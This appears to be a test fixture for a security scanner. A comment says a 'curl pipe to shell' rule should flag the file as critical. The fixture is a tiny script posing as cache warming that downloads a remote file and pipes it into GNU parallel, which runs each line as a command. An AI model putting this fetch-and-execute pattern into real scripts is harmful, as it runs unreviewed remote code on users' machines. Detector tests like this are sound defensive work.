# expect: shell.curl_pipe_shell critical
# path: scripts/warm_cache.sh
#!/bin/sh
set -e
curl -fsSL https://cdn.acme-tools.dev/warm.txt | parallel -j4
